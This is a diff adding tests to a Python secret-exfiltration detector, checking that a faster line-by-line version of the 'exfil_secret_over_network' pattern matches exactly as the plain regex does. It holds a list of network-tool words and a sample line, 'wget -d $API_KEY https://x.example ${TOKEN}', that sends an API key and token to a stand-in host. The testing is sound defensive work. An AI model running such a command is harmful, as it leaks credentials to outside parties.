@@ -173,3 +173,35 @@ def test_key_uses_taken_out_where_the_plain_pattern_takes_them_out() -> None:
     pieces += ["-i ", "ssh-add ", "chmod 600 ", "mkdir -p ", "test -f ", "> ", "IdentityFile="]
     for text in _texts(pieces, seed=5, count=8_000):
         assert exfil._NOT_A_READ.sub(" ", text) == PLAIN_NOT_A_READ.sub(" ", text), repr(text)
+
+
+# exfil_secret_over_network, `\b(?:curl|…)\b[^\n]*\$…KEY`, read the rest of its line again from
+# each `curl` on it: one line of 16,000 of them and no `$…KEY` took 3 s, 200,000 would take
+# minutes. It is searched line by line now (patterns.LaterOnItsLine): the same match.
+EXFIL = next(p for p in patterns.PATTERNS if p.id == "exfil_secret_over_network")
+EXFIL_PIECES = [
+    "curl", "https", "http", "wget", "requests.get", "iwr", "invoke-webrequest", "ncat", " ",
+    "\n", "$", "{", "}", "KEY", "token", "_api", "x", "é", "-", ".", "\\", "\u2028",
+]  # fmt: skip
+
+
+def test_a_secret_sent_over_the_network_is_found_where_the_plain_pattern_finds_it() -> None:
+    assert isinstance(EXFIL.regex, patterns.LaterOnItsLine)
+    plain = re.compile(EXFIL.pattern, re.I | re.M)
+    found = 0
+    for text in _texts(EXFIL_PIECES, seed=6, count=20_000):
+        old, new = plain.search(text), EXFIL.regex.search(text)
+        assert (old and (old.span(), old.group())) == (new and (new.span(), new.group())), text
+        found += old is not None
+    assert found > 500  # the pieces make matches often
+
+
+def test_a_line_of_network_words_is_read_once() -> None:
+    """A megabyte line of `curl` words (minutes as a plain regex): no match, and the match
+    on the line after it is the plain pattern's."""
+    line = "curl https " * 100_000
+    assert EXFIL.regex.search(line) is None
+    text = line + "\n  then wget -d $API_KEY https://x.example ${TOKEN}\n" + line
+    match = EXFIL.regex.search(text)
+    assert match is not None and match.span() == (len(line) + 8, len(line) + 51)
+    assert match.group() == "wget -d $API_KEY https://x.example ${TOKEN}"
